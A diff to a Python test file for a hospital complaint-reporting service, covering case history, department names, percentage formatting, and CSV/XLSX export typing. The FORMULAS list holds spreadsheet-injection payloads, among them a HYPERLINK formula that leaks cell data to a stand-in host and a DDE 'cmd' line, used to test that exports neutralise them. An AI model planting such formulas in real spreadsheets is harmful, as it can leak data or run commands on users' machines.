@@ -13,6 +13,7 @@ import io
 import itertools
 import re
 import uuid
+import zipfile
 from collections import Counter
 from collections.abc import Sequence
 from datetime import UTC, date, datetime, time, timedelta
@@ -25,6 +26,7 @@ import pytest
 from fastapi import HTTPException
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from openpyxl.worksheet.worksheet import Worksheet
 
 from schemas.base import HOSPITAL_TIME_ZONE, Event, derive_event_id
 from schemas.case import CaseChange, CaseKind, CaseState, CaseUpdated, derive_case_id
@@ -40,10 +42,17 @@ from services.common.departments import DepartmentCatalogue
 from services.escalation.conduct import ConductFile, decide, reconcile
 from services.escalation.rulebook import RuleBook
 from services.reporting.access import Role, Viewer
-from services.reporting.api import MONTHLY_COLUMNS, monthly_rows
+from services.reporting.api import MONTHLY_COLUMNS, monthly_rows, templates
 from services.reporting.dashboard import BAR_GAP, CHART_HEIGHT, CHART_WIDTH, bars, last_months
 from services.reporting.exports import ExportFormat, table
-from services.reporting.facts import HOSPITAL, CaseFact, CountKey, case_fact, count_key
+from services.reporting.facts import (
+    HOSPITAL,
+    CaseFact,
+    CaseRecord,
+    CountKey,
+    case_fact,
+    count_key,
+)
 from services.reporting.fold import FoldedReports
 from services.reporting.kpi import (
     TARGETS_FILE,
@@ -64,6 +73,7 @@ from services.reporting.monthly import (
     monthly_report,
     report_due,
 )
+from services.reporting.presentation import Percent
 from services.reporting.registers import (
     escalations,
     notices,
@@ -419,6 +429,30 @@ def test_case_fact_with_a_finding_is_not_overdue_after_it() -> None:
     assert not fact.overdue(late + timedelta(days=10))
     # Before its (late) finding the case was overdue: a past month's report says so.
     assert fact.overdue(late - timedelta(days=1))
+
+
+def _action(case: CaseUpdated, at: datetime, **facts: Any) -> CaseActionReceived:
+    action = _event("case_action", occurred_at=at, case_id=case.case_id, **facts)
+    assert isinstance(action, CaseActionReceived)
+    return action
+
+
+def test_case_fact_keeps_every_change_and_every_refused_action_with_its_reason() -> None:
+    case = _complaint_case()
+    day = case.opened_at + timedelta(days=1)
+    case = take_action(case, _action(case, day, action="close", reason="结案"), ROUTING, now=day)
+    to_nowhere = _action(case, day, action="reassign", to_department="nowhere", reason="改派")
+    case = take_action(case, to_nowhere, ROUTING, now=day)
+
+    history = case_fact(case).history
+
+    assert history == case.history
+    refused = [entry for entry in history if entry.change is CaseChange.REFUSED]
+    assert [entry.note for entry in refused] == [
+        "结案被拒绝：尚无调查结论",
+        "改派被拒绝：未知科室 nowhere",
+    ]
+    assert all(entry.by == "S0101" for entry in refused)
 
 
 # --- kpi: targets ---------------------------------------------------------------------------
@@ -1194,10 +1228,14 @@ def test_without_cases_or_sessions_nothing_is_computed() -> None:
     assert report.problems.kpi_shortfalls == []
 
 
+def _without_study(report: MonthlyReport) -> list[str]:
+    return [named.department for named in report.problems.without_study]
+
+
 def test_departments_without_a_study_session() -> None:
-    assert _report(DEPT).problems.without_study == []
-    assert _report("nursing").problems.without_study == ["nursing"]  # only October and December
-    assert _report(None).problems.without_study == sorted(set(CATALOGUE.departments) - STUDIED)
+    assert _without_study(_report(DEPT)) == []
+    assert _without_study(_report("nursing")) == ["nursing"]  # only October and December
+    assert _without_study(_report(None)) == sorted(set(CATALOGUE.departments) - STUDIED)
 
 
 def test_which_sessions_count_as_study_comes_from_the_rule_book() -> None:
@@ -1209,8 +1247,8 @@ def test_which_sessions_count_as_study_comes_from_the_rule_book() -> None:
         }
     )
     # DEPT held only warning education in November.
-    assert _report(DEPT, book=study_only).problems.without_study == [DEPT]
-    assert _report(OTHER, book=study_only).problems.without_study == []
+    assert _without_study(_report(DEPT, book=study_only)) == [DEPT]
+    assert _without_study(_report(OTHER, book=study_only)) == []
 
 
 @pytest.mark.parametrize(
@@ -1291,6 +1329,64 @@ def test_monthly_report_as_rows_for_export() -> None:
     assert {"section": "推进情况", "item": "处理措施", "value": DEPT_MEASURES} in rows
     overdue = [row["item"] for row in rows if row["section"] == "存在问题·逾期案件"]
     assert overdue == [case.case_id for case in report.problems.overdue_cases]
+
+
+def test_departments_without_a_study_session_are_named_as_people_read_them() -> None:
+    (nursing,) = _report("nursing").problems.without_study
+    assert (nursing.department, nursing.department_zh, nursing.department_en) == (
+        "nursing",
+        "护理部",
+        "Nursing Department",
+    )
+    named = _report(None).problems.without_study
+    assert [d.department_zh for d in named] == [
+        CATALOGUE.departments[d.department].name_zh for d in named
+    ]
+
+
+def _csv_of_rows(rows: list[dict[str, object]], columns: list[tuple[str, str]]) -> list[list[str]]:
+    return _csv(rows, columns)[1]
+
+
+def test_the_monthly_export_names_departments_and_shows_rates_as_percentages() -> None:
+    parsed = _csv_of_rows(monthly_rows(_report(None)), MONTHLY_COLUMNS)
+    without_study = [row[1] for row in parsed if row[0] == "存在问题·本月未开展专题学习"]
+    assert without_study == [
+        CATALOGUE.departments[code].name_zh for code in sorted(set(CATALOGUE.departments) - STUDIED)
+    ]
+    assert not set(without_study) & set(CATALOGUE.departments)
+
+    shortfalls = {
+        row[1]: row[2:]
+        for row in _csv_of_rows(monthly_rows(_report(DEPT)), MONTHLY_COLUMNS)
+        if row[0] == "存在问题·指标未达标"
+    }
+    # Two of three complaint cases investigated, five of ten staff studied; a 7.5-day wait.
+    assert shortfalls["投诉查处率"] == ["66.67%", "未达标；目标 ≥ 100.00%"]
+    assert shortfalls["教育覆盖率"] == ["50.00%", "未达标；目标 ≥ 100.00%"]
+    assert shortfalls["住院患者平均等待天数"] == ["7.5", "未达标；目标 ≤ 7 天"]
+    assert shortfalls["医保目录或集采药品使用率"][0] == "8500.00%"  # sent as 85: out of scale
+
+
+def _page(name: str, **context: object) -> str:
+    return templates.get_template(name).render(**context)
+
+
+def test_the_printed_report_names_departments_and_shows_rates_as_percentages() -> None:
+    hospital = _page("monthly.html", report=_report(None))
+    for code in sorted(set(CATALOGUE.departments) - STUDIED):
+        entry = CATALOGUE.departments[code]
+        assert f"<li>{entry.name_zh} <small>{entry.name_en}</small></li>" in hospital
+        assert f"<li>{code}</li>" not in hospital
+
+    page = _page("monthly.html", report=_report(DEPT))
+    assert "投诉查处率：66.67%（目标 ≥ 100.00%，未达标）" in page
+    assert "0.6667" not in page
+    assert "住院患者平均等待天数：7.5 天（目标 ≤ 7 天，未达标）" in page
+    kpi_row = re.search(r'<tr class="\w+" data-metric="education_coverage">.*?</tr>', page, re.S)
+    assert kpi_row is not None
+    assert "<td>50.00%</td>" in kpi_row.group()
+    assert "≥ 100.00%" in kpi_row.group()
 
 
 # --- registers ------------------------------------------------------------------------------
@@ -1514,12 +1610,17 @@ def test_notice_register() -> None:
     )
 
     register = notices(
-        [without_item, notice, _decision(DecisionKind.MEASURE, key="m", as_of=NOV_START)]
+        [without_item, notice, _decision(DecisionKind.MEASURE, key="m", as_of=NOV_START)],
+        CATALOGUE,
     )
 
     assert [(n.department, n.item, n.as_of) for n in register] == [
         ("laboratory", "检查结果互认", _h(2026, 11, 8)),
         ("imaging", "", _h(2026, 11, 9)),
+    ]
+    assert [(n.department_zh, n.department_en) for n in register] == [
+        ("检验科", "Clinical Laboratory"),
+        ("医学影像科", "Medical Imaging"),
     ]
     assert register[0].explanation_zh == "检验科敷衍整改，通报批评。"
 
@@ -1583,7 +1684,11 @@ def test_csv_round_trips_any_text(cells: list[list[str]]) -> None:
 
     _, parsed = _csv(rows, columns)
 
-    assert parsed == [["甲", "乙"], *cells]
+    # Text a spreadsheet would run comes back behind the quote that stops it.
+    def written(text: str) -> str:
+        return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
+
+    assert parsed == [["甲", "乙"], *([written(text) for text in row] for row in cells)]
 
 
 def test_xlsx_opens_with_chinese_headers_and_rows() -> None:
@@ -1599,7 +1704,7 @@ def test_xlsx_opens_with_chinese_headers_and_rows() -> None:
     assert rows[1] == (_case_id(1), "普通精神科", 20, '含逗号, "引号"\n换行')
     assert rows[2][:3] == (_case_id(2), "药剂科", 0)
     assert rows[2][3] in (None, "")
-    assert rows[3][:3] == (_case_id(3), "检验科", "0.6667")
+    assert rows[3][:3] == (_case_id(3), "检验科", 0.6667)  # a number, not text
     assert len(rows) == 1 + len(ROWS)
 
 
@@ -1637,6 +1742,145 @@ def test_download_name_is_percent_encoded_utf8(fmt: ExportFormat) -> None:
     encoded = disposition.removeprefix(prefix)
     assert re.fullmatch(r"[A-Za-z0-9%._~-]+", encoded)
     assert unquote(encoded, encoding="utf-8", errors="strict") == f"{name}.{fmt}"
+
+
+# Text a spreadsheet would run as a formula (OWASP's CSV injection triggers), as a rectification
+# item or an explanation can carry it.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")',
+    "+1+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+TEXT_COLUMNS = [("item", "整改事项"), ("n", "数量")]
+
+
+def test_csv_neutralises_text_a_spreadsheet_would_run_but_keeps_numbers() -> None:
+    rows: list[dict[str, object]] = [{"item": text, "n": -5} for text in FORMULAS]
+    rows += [
+        {"item": "检查结果互认 = 未落实", "n": Decimal("-0.25")},
+        {"item": "a-b", "n": 0},
+    ]
+
+    _, parsed = _csv(rows, TEXT_COLUMNS)
+
+    assert parsed[1:] == [
+        *(["'" + text, "-5"] for text in FORMULAS),
+        ["检查结果互认 = 未落实", "-0.25"],  # negative numbers are numbers, not formulas
+        ["a-b", "0"],
+    ]
+
+
+def _xlsx(rows: list[dict[str, object]], columns: list[tuple[str, str]]) -> tuple[bytes, Worksheet]:
+    response = table(rows, columns, fmt=ExportFormat.XLSX, filename="通报", sheet="通报")
+    body = bytes(response.body)
+    return body, openpyxl.load_workbook(io.BytesIO(body))["通报"]
+
+
+def _sheet_xml(body: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+
+
+def test_xlsx_writes_text_a_spreadsheet_would_run_as_text_and_numbers_as_numbers() -> None:
+    rows: list[dict[str, object]] = [{"item": text, "n": -5} for text in FORMULAS]
+    rows.append({"item": "普通文字", "n": Decimal("-0.25")})
+
+    body, sheet = _xlsx(rows, TEXT_COLUMNS)
+
+    assert "<f>" not in _sheet_xml(body)
+    for index, text in enumerate(FORMULAS, start=2):
+        item, n = sheet.cell(index, 1), sheet.cell(index, 2)
+        # XML reads a carriage return back as a line feed; either way the cell is text.
+        assert (item.value, item.data_type) == (text.replace("\r", "\n"), "s")
+        assert item.quotePrefix, "kept as text when edited"
+        assert (n.value, n.data_type) == (-5, "n")
+    last = len(rows) + 1
+    assert (sheet.cell(last, 1).value, sheet.cell(last, 2).value) == ("普通文字", -0.25)
+    assert sheet.cell(last, 2).data_type == "n"
+
+
+@given(text=st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1))
+@settings(max_examples=100, deadline=None)
+def test_no_text_becomes_a_formula_in_either_format(text: str) -> None:
+    rows: list[dict[str, object]] = [{"item": text, "n": 1}]
+
+    _, parsed = _csv(rows, TEXT_COLUMNS)
+    (cell, _) = parsed[1]
+    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}
+    assert cell in (text, "'" + text)
+
+    body, sheet = _xlsx(rows, TEXT_COLUMNS)
+    assert "<f>" not in _sheet_xml(body)
+    assert sheet.cell(2, 1).data_type == "s"
+
+
+TYPED_COLUMNS = [
+    ("at", "日期时间"),
+    ("day", "日期"),
+    ("share", "比例"),
+    ("count", "件数"),
+    ("in_force", "是否在期"),
+    ("note", "说明"),
+]
+TYPED_ROWS: list[dict[str, object]] = [
+    {
+        "at": datetime(2026, 11, 8, 2, 30, tzinfo=UTC),  # 10:30 in the hospital
+        "day": date(2026, 11, 8),
+        "share": Percent(Decimal("0.1429")),
+        "count": 7,
+        "in_force": True,
+        "note": "儿童青少年精神科未开展专题学习，已通报",
+    },
+    {
+        "at": None,
+        "day": date(2028, 11, 7),
+        "share": Percent(Decimal("1")),
+        "count": 0,
+        "in_force": False,
+        "note": "",
+    },
+]
+
+
+def test_xlsx_stores_dates_as_dates_and_numbers_as_numbers_in_the_hospital_s_time() -> None:
+    _, sheet = _xlsx(TYPED_ROWS, TYPED_COLUMNS)
+
+    at, day, share, count, in_force = (sheet.cell(2, column) for column in range(1, 6))
+    # A number with a date format, which openpyxl reads back as a datetime.
+    assert at.value == datetime(2026, 11, 8, 10, 30)
+    assert at.number_format == "yyyy-mm-dd hh:mm"
+    assert day.value == datetime(2026, 11, 8)
+    assert day.number_format == "yyyy-mm-dd"
+    assert (share.value, share.data_type, share.number_format) == (0.1429, "n", "0.00%")
+    assert (count.value, count.data_type) == (7, "n")
+    assert in_force.value == "是"
+    assert sheet["E3"].value == "否"
+    assert sheet["A3"].value is None
+
+
+def test_csv_writes_moments_in_the_hospital_s_time_and_rates_as_percentages() -> None:
+    _, parsed = _csv(TYPED_ROWS, TYPED_COLUMNS)
+
+    assert parsed[1][:5] == ["2026-11-08 10:30", "2026-11-08", "14.29%", "7", "是"]
+    assert parsed[2][:5] == ["", "2028-11-07", "100.00%", "0", "否"]
+
+
+def test_xlsx_has_a_frozen_header_a_filter_and_columns_wide_enough() -> None:
+    _, sheet = _xlsx(TYPED_ROWS, TYPED_COLUMNS)
+
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == "A1:F3"
+    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEF"}
+    # A Chinese character takes two character widths.
+    assert widths["F"] >= 2 * len("儿童青少年精神科未开展专题学习，已通报") > widths["A"]
+    assert widths["A"] >= len("2026-11-08 10:30")
+    assert all(
+        width >= 2 * len(header)
+        for (_, header), width in zip(TYPED_COLUMNS, widths.values(), strict=True)
+    )
 
 
 # --- access ---------------------------------------------------------------------------------
@@ -1777,9 +2021,10 @@ async def test_the_fold_keeps_a_document_per_partition_and_month() -> None:
 async def test_the_fold_keeps_a_case_s_highest_revision_in_any_order(order: list[int]) -> None:
     folded = FoldedReports()
     fact = _fact(1, opened=_h(2026, 11, 2), deadline=_h(2026, 11, 30))
+    record = CaseRecord.model_validate({**fact.model_dump(), "history": ()})
     for revision in [*order, order[0]]:
-        await folded.record_case(fact.model_copy(update={"revision": revision}))
-    assert folded.cases == {fact.case_id: fact.model_copy(update={"revision": 4})}
+        await folded.record_case(record.model_copy(update={"revision": revision}))
+    assert folded.cases == {fact.case_id: record.model_copy(update={"revision": 4})}
 
 
 async def test_the_fold_keeps_a_decision_and_a_session_once() -> None:
